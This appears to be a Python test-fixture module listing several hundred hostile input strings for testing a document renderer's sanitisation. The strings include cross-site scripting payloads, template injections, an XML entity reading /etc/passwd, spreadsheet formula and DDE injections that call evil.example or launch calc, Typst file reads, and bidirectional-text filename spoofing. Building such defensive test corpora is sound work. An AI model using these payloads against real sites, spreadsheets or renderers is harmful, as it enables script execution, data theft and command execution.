"""What people might write to harm a document's reader: at least three hundred texts, by what they aim at."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='data:text/html,<script>1</script>'>x</a>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style>",
    "<style>@import 'http://evil'</style>",
    "<link rel=stylesheet href=http://evil.example>", "<base href=http://evil.example>", "<object data=evil.swf>",
    "<embed src=evil.swf>", "<form action=http://evil.example><button>x</button></form>", "<!--<script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "&lt;script&gt;", "&#x3c;script&#x3e;", "&amp;lt;b&amp;gt;", "</p></body></html><script>1</script>",
    "\"><script>alert(1)</script>", "'-alert(1)-'", "{{constructor.constructor('alert(1)')()}}", "{% raw %}{{ 7*7 }}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*7}}", "%(name)s %s %n", "{0.__class__}", "javascript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@import", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1",
    "－1", "＠SUM(1)", "=\u200b1+1", "\u200b=1+1", "'=1+1", "\"=1+1", ";=1+1", "a;=1+1", "a\n=1+1",
    "=DDE(\"a\";\"b\";\"c\")",
    "=10+20+cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!'A1'", "%0A=1+1", "\ufeff=1+1", "=",  "==", "=-", "-", "+", "@",
    "-=+@", "=A1", "=RAND()", "=NOW()", "=INDIRECT(\"A1\")", "=REGISTER(\"x\")", "−1+1",
)  # fmt: skip
TYPST = (
    "#read(\"/etc/passwd\")", "#import \"/etc/passwd\": *", "#include \"document.typ\"", "#image(\"/etc/passwd\")",
    "#eval(\"1+1\")", "#sys.inputs", "#let x = 1", "#link(\"http://evil.example\")[x]", "#strong[x]",
    "= Titolo finto",
    "== Titolo finto", "*grassetto*", "_corsivo_", "$ x^2 $", "`raw`", "```py\nimport os\n```", "/ Termine: voce",
    "@evidence-1", "<evidence-1>", "\\u{1F600}", "\\", "\\\\", "~", "---", "#", "##", "#[", "#]", "#(", "#)",
    "#{", "#}",
    "// commento", "/* commento", "*/", "https://evil.example/x", "#show: it => none", "#set page(width: 1pt)",
    "#pagebreak()",
    "#counter(page).update(99)", "#panic(\"x\")", "#while true {}", "#plugin(\"x.wasm\")", "#bibliography(\"x.bib\")",
    "#json(\"/etc/passwd\")", "#csv(\"/etc/passwd\")", "#xml(\"/etc/passwd\")", "#metadata(1) <evidence-2>",
)  # fmt: skip
MARKDOWN = (
    "# Titolo", "###### Titolo", "Titolo\n=====", "Titolo\n-----", "---", "***", "* voce", "- voce", "+ voce",
    "1. voce",
    "1) voce", "999999999. voce", "- [ ] fatto", "> citazione", "    codice", "\tcodice", "```\ncodice\n```",
    "~~~\ncodice\n~~~",
    "`codice`", "``a`b``", "**forte**", "__forte__", "*enfasi*", "_enfasi_", "~~via~~", "[x](http://evil.example)",
    "[x](javascript:alert(1))", "[x]: http://evil.example", "[x]", "[x][]", "[x][1]",
    "![x](http://evil.example/x.png)",
    "![x][1]", "<http://evil.example>", "<a@evil.example>", "http://evil.example", "https://evil.example/a_b_c",
    "www.evil.example", "a@evil.example", "ftp://evil.example", "[^1]", "[^1]: finta prova", "^[nota]",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "a | b", "\\|", "&nbsp;", "&copy;", "&#0;", "<b>x</b>", "<!-- x -->", "<div>\n\n*x*\n\n</div>",
    ": definizione", "$x$", "$$x$$",
    "@utente", "#123", ":smile:", "==evidenziato==", "H~2~O", "x^2^", "{#id .classe}", "::: nota",
    "---\ntitle: x\n---", "***forte***",
    "*[HTML]: x", "[[wiki]]", "\\", "\\\\", "riga  \nriga", "riga\\\nriga", "-", "+", "1.", "#", ">", "*", "_",
    "`", "```", "|", "!", "![", "](", "[]()",
)  # fmt: skip
REORDERING = (
    "\u202egpj.exe", "ciao \u202e olleh \u202c fine", "\u202dabc\u202c", "\u202aabc\u202c", "\u202babc\u202c",
    "\u2066abc\u2069",
    "\u2067abc\u2069", "\u2068abc\u2069", "\u2069\u2069\u2069", "\u202c\u202c", "a\u200fb", "a\u200eb",
    "a\u061cb", "\u202e" * 50 + "x",
    "\u2067" * 200 + "x", "file\u202etxt.exe", "مرحبا \u202e world", "שלום \u202d abc", "א=1+1",
    "مكتبة (abc) 123!", "١٢٣ + ٤٥", "abc אבג 123 دهو",
)  # fmt: skip
CONTROLS = (
    *(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))), "a\u2028b", "a\u2029b", "a\ufeffb",
    "\ufeffab", "a\u0000\u0000b",
    "a\ufffeb", "a\uffffb", "a\ufdd0b", "a\U0001fffeb", "a\U0010ffffb", "a\ue000b", "a\U000f1234b", "a\u0378b",
    "a\ufffdb", "a\u00adb",
    "a\u200bb", "a\u2060b", "a\u180eb", "a\U000e0041\U000e007fb", "\x1b[31mrosso\x1b[0m", "\x1b]0;titolo\x07",
    "\x08\x08\x08", "a\r\nb", "a\rb",
    "a\n\n\n\nb", "\n" * 300, " " * 1000 + "x", "\u3000x", "a\x0b\x0cb", "a\ufff9b\ufffac\ufffbd",
)  # fmt: skip
SIGNS = (
    "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇮🇹", "👍🏽", "🤷🏾‍♀️", "❤️", "☺", "1️⃣", "😀" * 500, "👩‍👩‍👧‍👦" * 100, "e\u0301",
    "Z" + "\u0351" * 400, "a" + "\u20dd" * 50,
    "\u0301", "\u200d", "\ufe0f", "🏽", "🇮", "ǅ", "ﬁ", "ﷺ" * 60, "𒐫" * 60, "꧅" * 60, "𝕏𝔘𝔫𝔦", "Ω≈ç√∫", "ÅÍÎÏ", "ṩ",
    "ẛ̣", "İıſK", "ß", "ǆ", "漢字かな交じり文",
    "你好,世界", "한국어", "ไทยภาษาไทย", "বাংলা ভাষা", "සිංහල", "اُردُو میں لکھا ہوا", "עברית", "हिन्दी", "ქართული",
    "ⵜⴰⵎⴰⵣⵉⵖⵜ", "ᚠᛇᚻ", "ᠮᠣᠩᠭᠣᠯ", "𓂀𓃭", "𐍈",
    "a" * 2000, "parola " * 280, "x" * 1999 + "😀", "W" * 500, "http://" + "a" * 500,
)  # fmt: skip
ALL = (*SCRIPTS, *FORMULAS, *TYPST, *MARKDOWN, *REORDERING, *CONTROLS, *SIGNS)
HUGE = (
    "😀" * 100_000,
    "👩‍👩‍👧‍👦" * 15_000,
    "a" * 100_000,
    "=" * 100_000,
    "\u202e" * 100_000 + "x",
    "a\u0301" * 50_000,
)
